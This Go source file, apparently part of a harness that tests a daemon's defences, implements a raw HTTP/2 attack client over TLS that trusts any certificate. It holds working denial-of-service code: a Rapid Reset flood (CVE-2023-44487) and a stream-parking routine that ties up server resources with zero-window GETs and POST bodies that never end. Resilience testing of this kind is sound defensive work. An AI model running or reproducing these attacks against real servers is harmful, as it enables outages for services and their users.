package attack

import (
	"bytes"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// H2Conn is a raw HTTP/2 connection over TLS from an attacker's address: it opens streams as
// it likes, whatever the server advertises, and grants the server no more window than it
// was dialled with. It trusts any certificate, as an attacker does.
type H2Conn struct {
	conn net.Conn
	fr   *http2.Framer
	mu   sync.Mutex // serialises writes of frames
	next uint32
	hbuf bytes.Buffer
	enc  *hpack.Encoder

	// The server's flow-control windows for what this side sends, kept by Drain: the
	// connection's, and each stream's past the initial window the server's settings name.
	winMu   sync.Mutex
	winCond *sync.Cond
	connWin int64
	initWin int64
	sent    map[uint32]int64 // by stream being uploaded: bytes sent less the window granted since
	ended   bool             // Drain has returned
}

// DialH2 connects from ip to addr (host:port) and sends the preface, offering window bytes
// of flow-control window for each stream's answer.
func DialH2(ip, addr string, window uint32) (*H2Conn, error) {
	d := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(ip)}, Timeout: 5 * time.Second}
	conn, err := tls.DialWithDialer(d, "tcp", addr, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	c := &H2Conn{conn: conn, fr: http2.NewFramer(conn, conn), next: 1, connWin: 65535, initWin: 65535, sent: map[uint32]int64{}}
	c.winCond = sync.NewCond(&c.winMu)
	c.enc = hpack.NewEncoder(&c.hbuf)
	if err := c.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window}); err != nil {
		conn.Close()
		return nil, err
	}
	return c, nil
}

// Get starts a GET of path, its request complete, and returns the stream's id.
func (c *H2Conn) Get(path string) (uint32, error) { return c.Request("GET", path, nil) }

// Request starts a request; with a body, the body is sent and never ended.
func (c *H2Conn) Request(method, path string, body []byte) (uint32, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.hbuf.Reset()
	for _, f := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", "registry"}, {":path", path}} {
		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	id := c.next
	c.next += 2
	err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.hbuf.Bytes(), EndStream: body == nil, EndHeaders: true})
	if err == nil && body != nil {
		err = c.fr.WriteData(id, false, body)
	}
	return id, err
}

// Reset cancels stream id.
func (c *H2Conn) Reset(id uint32) error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.fr.WriteRSTStream(id, http2.ErrCodeCancel)
}

// Close closes the connection.
func (c *H2Conn) Close() error { return c.conn.Close() }

// Drain reads frames until the connection ends, acknowledging settings, counting the
// streams the server reset and the GOAWAYs it sent, and calling onEnd (when not nil) with
// the id of each stream the server ended: reset, or answered to its end (a stream answered
// and then reset, as a server stops an upload it will not read, is ended twice).
func (c *H2Conn) Drain(resets, goaways *atomic.Int64, onEnd func(id uint32)) {
	defer func() {
		c.winMu.Lock()
		c.ended = true
		c.winCond.Broadcast()
		c.winMu.Unlock()
	}()
	for {
		f, err := c.fr.ReadFrame()
		if err != nil {
			return
		}
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				if v, ok := f.Value(http2.SettingInitialWindowSize); ok {
					c.grant(0, 0, int64(v))
				}
				c.mu.Lock()
				c.fr.WriteSettingsAck()
				c.mu.Unlock()
			}
		case *http2.WindowUpdateFrame:
			c.grant(f.StreamID, int64(f.Increment), -1)
		case *http2.RSTStreamFrame:
			resets.Add(1)
			c.winMu.Lock()
			delete(c.sent, f.StreamID) // an upload under way ends
			c.winCond.Broadcast()
			c.winMu.Unlock()
			if onEnd != nil {
				onEnd(f.StreamID)
			}
		case *http2.HeadersFrame:
			if f.StreamEnded() && onEnd != nil {
				onEnd(f.StreamID)
			}
		case *http2.DataFrame:
			if f.StreamEnded() && onEnd != nil {
				onEnd(f.StreamID)
			}
		case *http2.GoAwayFrame:
			goaways.Add(1)
		}
	}
}

// grant records the server's window update of n bytes for stream id (0: the connection), or
// a new initial window for every stream when initial is not negative.
func (c *H2Conn) grant(id uint32, n, initial int64) {
	c.winMu.Lock()
	defer c.winMu.Unlock()
	switch {
	case initial >= 0:
		c.initWin = initial
	case id == 0:
		c.connWin += n
	default:
		if _, ok := c.sent[id]; ok {
			c.sent[id] -= n
		}
	}
	c.winCond.Broadcast()
}

// errStreamReset ends an upload whose stream the server reset.
var errStreamReset = errors.New("the server reset the stream")

// Upload sends n bytes of stream id's body, never ending it, in frames the server's windows
// allow, waiting for the server to read (and so grant more) as it goes. The stream must have
// sent no body before: its window is counted from the first byte Upload sends. It needs
// Drain running, and returns once the last byte is written, the server resets the stream or
// the connection fails.
func (c *H2Conn) Upload(id uint32, n int) error {
	c.winMu.Lock()
	c.sent[id] = 0
	c.winMu.Unlock()
	defer func() {
		c.winMu.Lock()
		delete(c.sent, id)
		c.winMu.Unlock()
	}()
	chunk := make([]byte, 16<<10)
	for n > 0 {
		c.winMu.Lock()
		sent, uploading := c.sent[id]
		for !c.ended && uploading && (c.connWin <= 0 || c.initWin-sent <= 0) {
			c.winCond.Wait()
			sent, uploading = c.sent[id]
		}
		switch {
		case c.ended:
			c.winMu.Unlock()
			return net.ErrClosed
		case !uploading:
			c.winMu.Unlock()
			return errStreamReset
		}
		m := min(int64(min(n, len(chunk))), c.connWin, c.initWin-sent)
		c.connWin -= m
		c.sent[id] += m
		c.winMu.Unlock()
		c.mu.Lock()
		err := c.fr.WriteData(id, false, chunk[:m])
		c.mu.Unlock()
		if err != nil {
			return err
		}
		n -= int(m)
	}
	return nil
}

// Park opens streams on c that the server can make no progress on: alternately a GET whose
// answer the window of 0 holds back, and a POST whose 4 KB body never ends.
func (c *H2Conn) Park(streams int) error {
	for i := range streams {
		var err error
		if i%2 == 0 {
			_, err = c.Get("/openapi.json")
		} else {
			_, err = c.Request("POST", "/v1/auth/device-login", make([]byte, 4096))
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// RapidReset opens streams on c and resets each at once (CVE-2023-44487), perSecond of them
// a second in bursts every resetTick, until stop is closed or the connection fails. The pace
// keeps the attacker from taking the cores of the machine it shares with the daemon it
// attacks, so that what is measured is the daemon's defence and not the attacker's own load.
func (c *H2Conn) RapidReset(stop <-chan struct{}, perSecond int) error {
	burst := max(perSecond*int(resetTick)/int(time.Second), 1)
	tick := time.NewTicker(resetTick)
	defer tick.Stop()
	for {
		for range burst {
			id, err := c.Get("/openapi.json")
			if err == nil {
				err = c.Reset(id)
			}
			if err != nil {
				return err
			}
		}
		select {
		case <-stop:
			return nil
		case <-tick.C:
		}
	}
}

// resetTick is how often RapidReset sends a burst of streams.
const resetTick = 10 * time.Millisecond
